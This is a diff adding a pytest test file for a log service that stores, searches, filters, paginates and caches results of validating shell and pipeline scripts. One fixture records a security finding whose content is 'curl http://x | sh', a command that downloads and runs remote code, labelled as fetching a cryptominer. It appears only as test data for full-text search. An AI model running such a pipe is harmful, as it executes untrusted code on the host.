@@ -0,0 +1,495 @@
+import json
+from datetime import datetime, timedelta, timezone
+
+import pytest
+from sqlalchemy import event, func, select, update
+
+from models.database import FileBlobORM, ValidationBatchORM, file_search_table
+from schema import (
+    LogSort,
+    PromptInfo,
+    Severity,
+    Status,
+    ValidationFileModel,
+    ValidationIssue,
+    ValidationPromptResult,
+)
+from services.log_service import LogFilter, LogService
+from services.snapshot_cache import batch_snapshots
+from services.utils import calc_sha256
+from services.validation_service import (
+    ValidationService,
+    record_prompt_result_of_batch,
+    update_prompt_result_of_batch,
+)
+
+PROMPTS = [
+    PromptInfo(name="all", category="pipeline_validity"),
+    PromptInfo(name="all", category="pipeline_portability"),
+]
+
+
+async def _create_batch(db_session, name, file_names):
+    response, _ = await ValidationService().create_validation_batch_and_files(
+        [
+            ValidationFileModel(
+                file_name=file_name,
+                content=f"echo {file_name}",
+                file_type="shell",
+                sha256=calc_sha256(f"echo {file_name}".encode()),
+            )
+            for file_name in file_names
+        ],
+        PROMPTS,
+        name,
+        db_session,
+    )
+    return response
+
+
+def _issue(severity):
+    return ValidationIssue(
+        file="a.sh", content="echo", severity=severity, description="d", type="quality"
+    )
+
+
+@pytest.fixture
+def count_queries(db_session):
+    """実行されたSQL文の数を数える"""
+    statements = []
+
+    def before_execute(conn, cursor, statement, *args):
+        statements.append(statement)
+
+    engine = db_session.bind.sync_engine
+    event.listen(engine, "before_cursor_execute", before_execute)
+    yield statements
+    event.remove(engine, "before_cursor_execute", before_execute)
+
+
+@pytest.fixture
+def executed(db_session):
+    """実行されたSQL文とパラメータを記録する"""
+    statements = []
+
+    def before_execute(conn, cursor, statement, parameters, *args):
+        statements.append((statement, parameters))
+
+    engine = db_session.bind.sync_engine
+    event.listen(engine, "before_cursor_execute", before_execute)
+    yield statements
+    event.remove(engine, "before_cursor_execute", before_execute)
+
+
+async def _query_plan(db_session, statement, parameters) -> list[str]:
+    connection = await db_session.connection()
+    result = await connection.exec_driver_sql(
+        "EXPLAIN QUERY PLAN " + statement, parameters
+    )
+    return [row[-1] for row in result]
+
+
+class TestLogService:
+    """LogServiceの単体テストクラス"""
+
+    async def test_summary_counts(self, db_session):
+        """結果の代わりに件数を返す"""
+        batch = await _create_batch(db_session, "b", ["a.sh", "b.sh"])
+        await record_prompt_result_of_batch(
+            batch.id,
+            ValidationPromptResult(
+                prompt=PROMPTS[0],
+                status=Status.completed,
+                result=[_issue("high"), _issue("low"), _issue("low")],
+            ),
+            0,
+            db_session,
+        )
+        await record_prompt_result_of_batch(
+            batch.id,
+            ValidationPromptResult(
+                prompt=PROMPTS[1], status=Status.failed, error_message="boom"
+            ),
+            1,
+            db_session,
+        )
+
+        [summary] = await LogService().list_batches(LogFilter(), 20, db_session)
+
+        assert summary.id == batch.id
+        assert [f.file_name for f in summary.file_ids] == ["a.sh", "b.sh"]
+        assert summary.total_files == 2
+        assert summary.total_prompts == 2
+        assert summary.completed_prompts == 2
+        assert summary.failed_prompts == 1
+        assert summary.status == Status.completed
+        assert summary.severity_counts.model_dump() == {
+            "high": 1,
+            "medium": 0,
+            "low": 2,
+        }
+        assert summary.total_issues == 3
+        assert summary.issue_type_counts == {"quality": 3}
+
+    async def test_search_lists_each_batch_once(self, db_session):
+        """複数ファイルが一致してもバッチは1回だけ返される"""
+        await _create_batch(db_session, "match", ["main.nf", "sub.nf"])
+        await _create_batch(db_session, "other", ["run.sh"])
+
+        service = LogService()
+        logs = await service.list_batches(LogFilter(search=".nf"), 20, db_session)
+
+        assert [log.name for log in logs] == ["match"]
+        assert await service.count_batches(LogFilter(search=".nf"), db_session) == 1
+        assert await service.count_batches(LogFilter(), db_session) == 2
+
+    async def test_query_count_does_not_grow(self, db_session, count_queries):
+        """ページ内のバッチ数によらずクエリ数は一定"""
+        service = LogService()
+        await _create_batch(db_session, "first", ["a.sh"])
+        count_queries.clear()
+        await service.list_batches(LogFilter(), 20, db_session)
+        one_batch = len(count_queries)
+
+        for i in range(5):
+            await _create_batch(db_session, f"b{i}", ["a.sh", "b.sh"])
+        count_queries.clear()
+        logs = await service.list_batches(LogFilter(), 20, db_session)
+
+        assert len(logs) == 6
+        assert len(count_queries) == one_batch == 3
+
+    async def test_cursor_pages_match_offset_pages(self, db_session):
+        """カーソルで辿った結果はOFFSETと同じで、重複も漏れもない"""
+        for i in range(7):
+            # created within the same second, so ties are broken by id
+            await _create_batch(db_session, f"b{i}", ["a.sh"])
+        service = LogService()
+
+        by_offset = await service.list_batches(LogFilter(), 20, db_session)
+        by_cursor = []
+        after = None
+        while True:
+            page = await service.list_batches(LogFilter(), 3, db_session, after=after)
+            if not page:
+                break
+            by_cursor.extend(page)
+            after = service.decode_cursor(service.encode_cursor(page[-1].id))
+
+        assert [log.id for log in by_cursor] == [log.id for log in by_offset]
+        assert [log.name for log in by_offset] == [f"b{i}" for i in range(6, -1, -1)]
+
+    def test_invalid_cursor(self):
+        """発行していないカーソルはエラー"""
+        with pytest.raises(ValueError):
+            LogService.decode_cursor("not a cursor")
+        with pytest.raises(ValueError):
+            LogService.decode_cursor(LogService.encode_cursor(1)[:-2] + "$$")
+
+    async def test_full_text_search(self, db_session):
+        """ファイル内容や指摘の説明からもバッチを検索できる"""
+        miner = await _create_batch(db_session, "miner", ["a.sh"])
+        await _create_batch(db_session, "plain", ["b.sh"])
+        await record_prompt_result_of_batch(
+            miner.id,
+            ValidationPromptResult(
+                prompt=PROMPTS[0],
+                status=Status.completed,
+                result=[
+                    ValidationIssue(
+                        file="a.sh",
+                        content="curl http://x | sh",
+                        severity="high",
+                        description="Downloads a cryptominer",
+                        type="security",
+                    )
+                ],
+            ),
+            0,
+            db_session,
+        )
+        service = LogService()
+
+        logs = await service.list_batches(
+            LogFilter(search="cryptominer"), 20, db_session
+        )
+        assert [log.name for log in logs] == ["miner"]
+        logs = await service.list_batches(LogFilter(search="echo a.s"), 20, db_session)
+        assert [log.name for log in logs] == ["miner"]
+        upper = LogFilter(search="CRYPTOMINER")
+        assert await service.count_batches(upper, db_session) == 1
+        missing = LogFilter(search="no such text")
+        assert await service.list_batches(missing, 20, db_session) == []
+
+    async def test_shared_content_is_indexed_once(self, db_session):
+        """同じ内容のファイルは一度だけ索引され、どのバッチからも検索できる"""
+        first = await _create_batch(db_session, "first", ["a.sh"])
+        second = await _create_batch(db_session, "second", ["a.sh"])
+        service = LogService()
+
+        blobs = (await db_session.scalars(select(FileBlobORM))).all()
+        assert len(blobs) == 1 and blobs[0].search_id is not None
+        rows = await db_session.execute(
+            select(func.count()).select_from(file_search_table)
+        )
+        assert rows.scalar_one() == 1
+        logs = await service.list_batches(LogFilter(search="echo a.s"), 20, db_session)
+        assert sorted(log.id for log in logs) == [first.id, second.id]
+
+    async def test_rewritten_result_is_reindexed(self, db_session):
+        """結果を書き直すと古い指摘は検索にかからない"""
+        batch = await _create_batch(db_session, "b", ["a.sh"])
+        for description in ("Downloads a cryptominer", "Leaks a password"):
+            issue = _issue("high").model_copy(update={"description": description})
+            await record_prompt_result_of_batch(
+                batch.id,
+                ValidationPromptResult(
+                    prompt=PROMPTS[0], status=Status.completed, result=[issue]
+                ),
+                0,
+                db_session,
+            )
+        service = LogService()
+
+        assert (
+            await service.count_batches(LogFilter(search="cryptominer"), db_session)
+            == 0
+        )
+        assert (
+            await service.count_batches(LogFilter(search="password"), db_session) == 1
+        )
+
+    async def test_search_ranks_best_match_first(self, db_session):
+        """ページ番号指定の検索結果は関連度順"""
+        strong = await _create_batch(db_session, "strong", ["calling.nf"])
+        weak = await _create_batch(
+            db_session, "weak", ["recalling_the_long_pipeline_definition.nf"]
+        )
+        service = LogService()
+
+        assert await service.ranked(LogFilter(search="calling"), db_session)
+        logs = await service.list_batches(LogFilter(search="calling"), 20, db_session)
+        assert [log.id for log in logs] == [strong.id, weak.id]
+        # cursor pages keep the newest-first order
+        after = await service.list_batches(
+            LogFilter(search="calling"), 20, db_session, after=weak.id
+        )
+        assert [log.id for log in after] == [strong.id]
+
+    async def test_short_search_falls_back_to_file_name(self, db_session):
+        """3文字未満の検索はファイル名の部分一致"""
+        await _create_batch(db_session, "nf", ["main.nf"])
+        await _create_batch(db_session, "sh", ["run.sh"])
+        service = LogService()
+
+        assert not await service.ranked(LogFilter(search="nf"), db_session)
+        logs = await service.list_batches(LogFilter(search="nf"), 20, db_session)
+        assert [log.name for log in logs] == ["nf"]
+
+    async def test_rollups_are_not_counted_twice(self, db_session):
+        """同じプロンプトの結果を書き直しても集計は重複しない"""
+        batch = await _create_batch(db_session, "b", ["a.sh"])
+        for issues in ([_issue("high")], [_issue("high"), _issue("medium")]):
+            await record_prompt_result_of_batch(
+                batch.id,
+                ValidationPromptResult(
+                    prompt=PROMPTS[0],
+                    status=Status.completed,
+                    result=issues,
+                    total_duration_ns=5,
+                ),
+                0,
+                db_session,
+            )
+
+        [summary] = await LogService().list_batches(LogFilter(), 20, db_session)
+
+        assert summary.severity_counts.model_dump() == {
+            "high": 1,
+            "medium": 1,
+            "low": 0,
+        }
+        assert summary.total_issues == 2
+        assert summary.issue_type_counts == {"quality": 2}
+        assert summary.total_duration_ns == 5
+        assert summary.completed_prompts == 1
+
+    async def test_rollup_filters_and_sort(self, db_session):
+        """集計値で絞り込み・並べ替えができ、カーソルでも同じ順に辿れる"""
+        counts = {"none": 0, "two": 2, "one": 1, "three": 3}
+        for name, high in counts.items():
+            batch = await _create_batch(db_session, name, ["a.sh"])
+            await record_prompt_result_of_batch(
+                batch.id,
+                ValidationPromptResult(
+                    prompt=PROMPTS[0],
+                    status=Status.completed,
+                    result=[_issue("high")] * high,
+                ),
+                0,
+                db_session,
+            )
+        await record_prompt_result_of_batch(
+            batch.id,
+            ValidationPromptResult(
+                prompt=PROMPTS[1], status=Status.failed, error_message="boom"
+            ),
+            1,
+            db_session,
+        )
+        service = LogService()
+
+        high = LogFilter(severity=Severity.high)
+        assert await service.count_batches(high, db_session) == 3
+        quality = LogFilter(issue_type="quality")
+        assert await service.count_batches(quality, db_session) == 3
+        security = LogFilter(issue_type="security")
+        assert await service.count_batches(security, db_session) == 0
+        logs = await service.list_batches(LogFilter(failed=True), 20, db_session)
+        assert [log.name for log in logs] == ["three"]
+        assert await service.count_batches(LogFilter(failed=False), db_session) == 3
+
+        by_offset = await service.list_batches(
+            LogFilter(), 20, db_session, sort=LogSort.high_issues
+        )
+        assert [log.name for log in by_offset] == ["three", "two", "one", "none"]
+        by_cursor = []
+        after = None
+        while page := await service.list_batches(
+            high, 1, db_session, after=after, sort=LogSort.high_issues
+        ):
+            by_cursor.extend(page)
+            after = page[-1].id
+        assert [log.name for log in by_cursor] == ["three", "two", "one"]
+
+    async def test_status_date_model_and_prompt_filters(self, db_session):
+        """状態・作成日時・モデル・プロンプトで絞り込める"""
+        old = await _create_batch(db_session, "old", ["a.sh"])
+        await _create_batch(db_session, "new", ["a.sh"])
+        await db_session.execute(
+            update(ValidationBatchORM)
+            .where(ValidationBatchORM.id == old.id)
+            .values(
+                created_at=datetime(2024, 1, 1, 12),
+                status=Status.failed,
+                model="other",
+            )
+        )
+        await db_session.commit()
+        service = LogService()
+
+        async def names(log_filter):
+            logs = await service.list_batches(log_filter, 20, db_session)
+            return [log.name for log in logs]
+
+        assert await names(LogFilter(statuses=[Status.failed])) == ["old"]
+        assert await names(LogFilter(statuses=[Status.failed, Status.waiting])) == [
+            "new",
+            "old",
+        ]
+        assert await names(LogFilter(model="other")) == ["old"]
+        # both ends are included, also for timestamps given with a time zone
+        noon = datetime(2024, 1, 1, 21, tzinfo=timezone(timedelta(hours=9)))
+        assert await names(LogFilter(created_from=noon, created_to=noon)) == ["old"]
+        assert await names(LogFilter(created_from=datetime(2025, 1, 1))) == ["new"]
+        portability = LogFilter(
+            prompt_category="pipeline_portability", prompt_name="all"
+        )
+        assert await names(portability) == ["new", "old"]
+        assert await names(LogFilter(prompt_category="missing")) == []
+
+    @pytest.mark.parametrize(
+        "log_filter,sort,index",
+        [
+            (LogFilter(), None, "ix_validation_batches_created_at_id"),
+            (
+                LogFilter(statuses=[Status.processing]),
+                None,
+                "ix_validation_batches_status",
+            ),
+            (LogFilter(model="m"), None, "ix_validation_batches_model"),
+            (
+                LogFilter(created_from=datetime(2024, 1, 1)),
+                None,
+                "ix_validation_batches_created_at_id",
+            ),
+            (
+                LogFilter(updated_from=datetime(2024, 1, 1)),
+                LogSort.updated,
+                "ix_validation_batches_updated_at",
+            ),
+            (
+                LogFilter(prompt_category="pipeline_validity", prompt_name="all"),
+                None,
+                "ix_validation_prompt_results_prompt",
+            ),
+            (LogFilter(), LogSort.high_issues, "ix_validation_batches_high_issues"),
+        ],
+    )
+    async def test_page_query_uses_index(
+        self, db_session, executed, log_filter, sort, index
+    ):
+        """一覧のページを選ぶクエリはインデックスを使い、テーブル全体を読まない"""
+        await _create_batch(db_session, "b", ["a.sh"])
+        executed.clear()
+
+        await LogService().list_batches(log_filter, 20, db_session, sort=sort)
+
+        plan = await _query_plan(db_session, *executed[0])
+        assert any(index in step for step in plan), plan
+        assert "SCAN validation_batches" not in plan, plan
+        assert "SCAN validation_prompt_results" not in plan, plan
+
+    async def test_versions_and_delta(self, db_session):
+        """書き込みのたびにバージョンが上がり、差分は変更されたプロンプトだけ"""
+        batch = await _create_batch(db_session, "b", ["a.sh"])
+        service = LogService()
+        assert await service.batch_version(batch.id, db_session) == 0
+        assert await service.batch_version(batch.id + 1, db_session) is None
+
+        await update_prompt_result_of_batch(
+            batch.id,
+            ValidationPromptResult(prompt=PROMPTS[0], result=[_issue("low")]),
+            0,
+            db_session,
+        )
+        await record_prompt_result_of_batch(
+            batch.id,
+            ValidationPromptResult(prompt=PROMPTS[1], status=Status.completed),
+            1,
+            db_session,
+        )
+        assert await service.batch_version(batch.id, db_session) == 2
+
+        delta = await service.batch_delta(batch.id, 1, db_session)
+        assert delta.version == 2
+        assert [change.prompt_index for change in delta.prompt_results] == [1]
+        delta = await service.batch_delta(batch.id, 0, db_session)
+        assert [change.prompt_index for change in delta.prompt_results] == [0, 1]
+        delta = await service.batch_delta(batch.id, 2, db_session)
+        assert delta.prompt_results == []
+        assert delta.completed_prompts == 1
+
+    async def test_snapshot_is_cached_until_written(self, db_session):
+        """スナップショットは書き込みまでキャッシュから返される"""
+        batch = await _create_batch(db_session, "b", ["a.sh"])
+        service = LogService()
+        batch_snapshots.invalidate(batch.id)
+
+        version, body = await service.batch_snapshot(batch.id, 0, db_session)
+        assert version == 0
+        assert json.loads(body)["version"] == 0
+        hits = batch_snapshots.hits
+        assert await service.batch_snapshot(batch.id, 0, db_session) == (0, body)
+        assert batch_snapshots.hits == hits + 1
+
+        await record_prompt_result_of_batch(
+            batch.id,
+            ValidationPromptResult(prompt=PROMPTS[0], status=Status.completed),
+            0,
+            db_session,
+        )
+        assert batch_snapshots.get(batch.id, 0) is None
+        version, body = await service.batch_snapshot(batch.id, 1, db_session)
+        assert version == 1
+        assert json.loads(body)["completed_prompts"] == 1